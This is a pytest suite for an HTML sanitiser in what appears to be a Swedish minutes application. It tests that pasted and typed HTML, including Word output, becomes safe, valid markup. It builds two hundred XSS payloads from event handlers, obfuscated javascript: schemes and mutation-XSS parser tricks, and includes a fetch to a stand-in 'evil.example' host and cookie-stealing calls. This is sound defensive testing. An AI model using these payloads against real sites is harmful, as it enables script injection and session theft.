"""What people type and paste becomes safe, valid HTML with the same words."""

import random
from html.parser import HTMLParser
from itertools import islice, product

import pytest
from playwright.sync_api import Dialog, Page

from minutes.sanitise import clean

pytestmark = pytest.mark.once_on_sqlite

# --- What may stand where: a second opinion, written down apart from the code -----------------------------------------

PHRASE = {"", "br", "strong", "em", "a"}
FLOW = PHRASE | {"p", "ul", "ol"}
MAY_HOLD = {
    "root": {"p", "h3", "h4", "ul", "ol", "blockquote", "table"},
    "blockquote": {"p", "ul", "ol"},
    **dict.fromkeys(["p", "h3", "h4", "strong", "em", "a"], PHRASE),
    **dict.fromkeys(["li", "td", "th"], FLOW),
    "ul": {"li"},
    "ol": {"li"},
    "table": {"thead", "tbody"},
    "thead": {"tr"},
    "tbody": {"tr"},
    "tr": {"th", "td"},
    "br": set(),
}
MAY_SAY = {"a": {"href"}, "th": {"scope"}}
MAY_LEAD = ("http://", "https://", "mailto:")


class Inspector(HTMLParser):
    """Notes everything that is not on the list above."""

    def __init__(self) -> None:
        super().__init__()
        self.open = ["root"]
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in MAY_HOLD.get(self.open[-1], set()):
            self.wrong.append(f"{tag} in {self.open[-1]}")
        if tag in self.open:
            self.wrong += [f"{tag} in itself"] if tag not in {"ul", "ol", "li", "p"} else []
        for name, value in attrs:
            if name not in MAY_SAY.get(tag, set()):
                self.wrong.append(f"{tag} {name}")
            if name == "href" and not (value or "").lower().startswith(MAY_LEAD):
                self.wrong.append(f"href {value}")
        if tag != "br":
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if self.open.pop() != tag:
            self.wrong.append(f"{tag} closed out of order")

    def handle_data(self, data: str) -> None:
        if data.strip() and "" not in MAY_HOLD.get(self.open[-1], set()):
            self.wrong.append(f"text in {self.open[-1]}")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"declaration {decl}")

    handle_pi = unknown_decl = handle_comment


def faults(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.wrong + [f"{tag} left open" for tag in inspector.open[1:]]


def test_inspector_sees_what_is_wrong():
    assert faults("<p>a</p>") == []
    assert faults("text<p onclick=x><ul></ul></p><a href='javascript:x'>k</a>") != []


# --- Safe ------------------------------------------------------------------------------------------------------------

RUN = ["alert(1)", "alert`1`", "fetch('//evil.example')", "top['al'+'ert'](1)"]
EVENTS = [
    "onerror",
    "onload",
    "onclick",
    "onfocus autofocus",
    "onmouseover",
    "onanimationstart",
    "ontoggle",
    "onpointerenter",
]
HOLDERS = [
    "img src=x",
    "svg",
    "body",
    "details open",
    "video",
    "p",
    "a href=http://a.example",
    "math",
    "input",
    "table",
    "marquee",
]
SCHEMES = [
    "javascript:",
    "JaVaScRiPt:",
    " javascript:",
    "java\tscript:",
    "java&#10;script:",
    "&#106;avascript:",
    "vbscript:",
    "data:text/html,",
]
LINKS = [
    '<a href="{}">k</a>',
    '<a href="{}"><p>k</p></a>',
    '<form action="{}"><button>k</form>',
    '<iframe src="{}"></iframe>',
]
SHAPES = [
    "<script>{}</script>",
    "<scr<script>ipt>{}</script>",
    "<svg><script>{}</script></svg>",
    "<style>*{{x:expression({})}}</style>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={}&gt;">',
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    '<svg></p><style><a id="</style><img src=1 onerror={}>">',
    "<template><img src=x onerror={}></template>",
    "<select><template><style><!--</select><img src=x onerror={}>-->",
    "<textarea></textarea><img src=x onerror={}>",
    '<title><img title="</title><img src=x onerror={}>">',
    '<xmp><p title="</xmp><img src=x onerror={}>">',
    "<![CDATA[<img src=x onerror={}>]]>",
    "<!--><img src=x onerror={}>-->",
    "<?x <img src=x onerror={}>",
    "</p/><img/src=x/onerror={}>",
    "<img src=x onerror={}//",
    "<a href='x' style='x:url(javascript:{})'>k",
    "<base href='javascript:{}//'>",
    "<meta http-equiv=refresh content='0;javascript:{}'>",
    "<object data='javascript:{}'>",
    "<embed src='javascript:{}'>",
    "<table background='javascript:{}'><td>a<td>b<tr><td>c",
    """<th scope='col" onclick={}'>""",
]


def payloads() -> list[str]:
    """Two hundred ways to hide a script, put together from holders, events, schemes and broken shapes."""
    events = (f"<{holder} {event}={run}>x" for run, event, holder in product(RUN, EVENTS, HOLDERS))
    links = (link.format(scheme + run) for run, scheme, link in product(RUN, SCHEMES, LINKS))
    shapes = (shape.format(run) for run, shape in product(RUN, SHAPES))
    return [*islice(events, 64), *islice(links, 64), *islice(shapes, 72)]


def test_no_payload_leaves_anything_but_listed_tags():
    made = payloads()
    assert len(set(made)) == 200
    assert {payload: wrong for payload in made if (wrong := faults(clean(payload)))} == {}
    assert {payload for payload in made if clean(clean(payload)) != clean(payload)} == set()


@pytest.fixture
def alarms(page: Page) -> list[str]:
    """What scripts on the page managed to say; nothing leaves the machine."""
    heard: list[str] = []

    def note(dialog: Dialog) -> None:
        heard.append(dialog.message)
        dialog.dismiss()

    page.route("**", lambda route: route.abort())
    page.on("dialog", note)
    return heard


def touch(page: Page, html: str) -> None:
    """Open the page and click everything on it."""
    page.set_content(html)
    page.evaluate("document.querySelectorAll('body *').forEach(found => found.click && found.click())")


def test_browser_runs_nothing_of_the_cleaned_payloads(page: Page, alarms: list[str]):
    touch(page, "".join(clean(payload) for payload in payloads()))
    assert alarms == []


def test_browser_runs_payloads_that_are_not_cleaned(page: Page, alarms: list[str]):
    touch(page, "".join(payloads()[:64]))
    assert alarms != []


@pytest.mark.parametrize(
    "address", ["http://a.example/?a=1&b=2", "https://a.example/å", "mailto:anna@example.org"]
)
def test_link_that_leads_somewhere_is_kept(address: str):
    assert clean(f'<a href="{address}">k</a>') == f'<p><a href="{address.replace("&", "&amp;")}">k</a></p>'


# --- Valid and stable ------------------------------------------------------------------------------------------------

TAGS = [
    *(
        "p",
        "div",
        "section",
        "span",
        "b",
        "i",
        "a",
        "br",
        "h1",
        "h2",
        "h3",
        "h4",
        "blockquote",
        "svg",
        "math",
        "del",
    ),
    *("ul", "ol", "li", "dl", "dt", "table", "caption", "thead", "tbody", "tr", "td", "th"),
]


def scramble(chance: random.Random) -> str:
    """Tags opened and closed without any order, with words between them."""
    pieces = []
    for _ in range(chance.randint(1, 25)):
        tag, attribute = (
            chance.choice(TAGS),
            chance.choice(["", " href=http://a.example/?a=1&b=2", " colspan=3", " rowspan=2"]),
        )
        words = chance.choice(["a", " ", "&nbsp;", "&lt;", "å", "\n", "<!--", "-->", "x y"])
        pieces.append(chance.choice([f"<{tag}{attribute}>", f"<{tag}>", f"</{tag}>", words]))
    return "".join(pieces)


def test_scrambled_html_becomes_valid_and_stays_the_same(seed: int):
    chance = random.Random(seed)
    for text in (scramble(chance) for _ in range(1500)):
        once = clean(text)
        assert faults(once) == [], text
        assert clean(once) == once, text


@pytest.mark.parametrize("tag", ["<ul><li>", "<strong><p>", "<table><tr><td>", "<blockquote>", "<h3><ul>"])
def test_endless_nesting_ends(tag: str):
    once = clean(tag * 1500 + "slut")
    assert "slut" in once
    assert faults(once) == []


# --- The same words -------------------------------------------------------------------------------------------------

WORD = """<html xmlns:o="urn:schemas-microsoft-com:office:office"><head>
<meta name=Generator content="Microsoft Word 15">
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-->
<style><!-- p.MsoNormal {mso-style-unhide:no; font-family:"Calibri",sans-serif;} --></style>
<script>stealCookies()</script></head><body lang=SV style='tab-interval:65.2pt'>
<h1><a name="_Toc1"></a><span style='mso-bidi-font-size:11.0pt'>Läget<o:p></o:p></span></h1>
<p class=MsoNormal style='margin-bottom:0cm'>
<b style='mso-bidi-font-weight:normal'>Björkvik</b> sparar 2&nbsp;%.<o:p></o:p></p>
<p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoListParagraph>
<![if !supportLists]><span style='font-family:Symbol'>\uf0b7<span>&nbsp; </span></span><![endif]>Kö</p>
<p class=MsoNormal onclick="steal()"><del>Nej</del><ins>Ja</ins>, <a href="javascript:steal()">säger</a> Åsa.</p>
<table class=MsoTableGrid border=1 style='mso-table-layout-alt:fixed'><tr><td width=100><p class=MsoNormal>Vad</p></td>
<td><p class=MsoNormal>Vem</p></td></tr><tr><td><p>Resebidrag</p></td><td><p>Regionen</p></td></tr></table>
<img width=1 src="file:///C:/Users/anna/clip_image001.png"></body></html>"""


def test_word_paste_keeps_the_words_alone():
    assert clean(WORD) == (
        "<h3>Läget</h3><p><strong>Björkvik</strong> sparar 2&nbsp;%.</p><p>•&nbsp; Kö</p><p>Ja, säger Åsa.</p>"
        '<table><thead><tr><th scope="col">Vad</th><th scope="col">Vem</th></tr></thead>'
        "<tbody><tr><td>Resebidrag</td><td>Regionen</td></tr></tbody></table>"
    )


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("Löpande text", "<p>Löpande text</p>"),
        ("", ""),
        ("<p>&nbsp;</p><p><br></p>", ""),
        ("<div>Ett</div><div>Två</div>", "<p>Ett</p><p>Två</p>"),
        ("a < b & c", "<p>a &lt; b &amp; c</p>"),
        ("a\u030a o\u0308", "<p>å ö</p>"),
        ("för\u202eslag\u200b\x07", "<p>förslag</p>"),
        ("\ud800x", "<p>x</p>"),
        ("<b>a<i>b</i></b>", "<p><strong>a<em>b</em></strong></p>"),
        ("<b><p>a</p><p>b</p></b>", "<p><strong>a</strong></p><p><strong>b</strong></p>"),
        ("<h2>A</h2><h3>B</h3><h5>C</h5><h2>D</h2>", "<h3>A</h3><h4>B</h4><h4>C</h4><h3>D</h3>"),
        ("<h4>A</h4><h2>B</h2>", "<h3>A</h3><h3>B</h3>"),
        ("<ul>a<li>b<ul><li>c</ul></ul>", "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>"),
        ("<ul><li>a</li><ul><li>b</li></ul></ul>", "<ul><li>a<ul><li>b</li></ul></li></ul>"),
        ("<ul><li><h2>A</h2>b</ul>", "<ul><li><p><strong>A</strong></p><p>b</p></li></ul>"),
        ("<blockquote>a</blockquote>", "<blockquote><p>a</p></blockquote>"),
        ('<a href="/lokal">a</a>', "<p>a</p>"),
    ],
)
def test_typed_text_keeps_its_words_and_gets_valid_tags(typed: str, kept: str):
    assert clean(typed) == kept


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        pytest.param(
            "<table><tr><td>A<td>B<tr><td>1<td>2</table>",
            '<table><thead><tr><th scope="col">A</th><th scope="col">B</th></tr></thead>'
            "<tbody><tr><td>1</td><td>2</td></tr></tbody></table>",
            id="first row becomes headers",
        ),
        pytest.param(
            "<table><tr><th>A<td>1<tr><th>B<td>2</table>",
            '<table><tbody><tr><th scope="row">A</th><td>1</td></tr>'
            '<tr><th scope="row">B</th><td>2</td></tr></tbody></table>',
            id="headers beside the rows are enough",
        ),
        pytest.param(
            "<table><tr><td><th>X<tr><th>A<td>1</table>",
            '<table><thead><tr><td></td><th scope="col">X</th></tr></thead>'
            '<tbody><tr><th scope="row">A</th><td>1</td></tr></tbody></table>',
            id="both, with an empty corner",
        ),
        pytest.param(
            "<table><tr><td>A<td>B<tr><td rowspan=2>1<td>2<tr><td>3<tr><td colspan=2>4</table>",
            '<table><thead><tr><th scope="col">A</th><th scope="col">B</th></tr></thead>'
            "<tbody><tr><td>1</td><td>2</td></tr><tr><td></td><td>3</td></tr><tr><td>4</td><td></td></tr></tbody></table>",
            id="spans leave empty cells",
        ),
        pytest.param("<table><tr><td>A<td>B</table>", "<p>A</p><p>B</p>", id="a table for layout is text"),
        pytest.param(
            "<table><caption>C</caption><tr><td>A<tr><td>B</table>",
            "<p>C</p><p>A</p><p>B</p>",
            id="one column",
        ),
        pytest.param("<table><tr><td><tr><td></table>", "", id="nothing in it"),
    ],
)
def test_table_gets_headers_and_equal_rows(typed: str, kept: str):
    assert clean(typed) == kept
    assert clean(kept) == kept
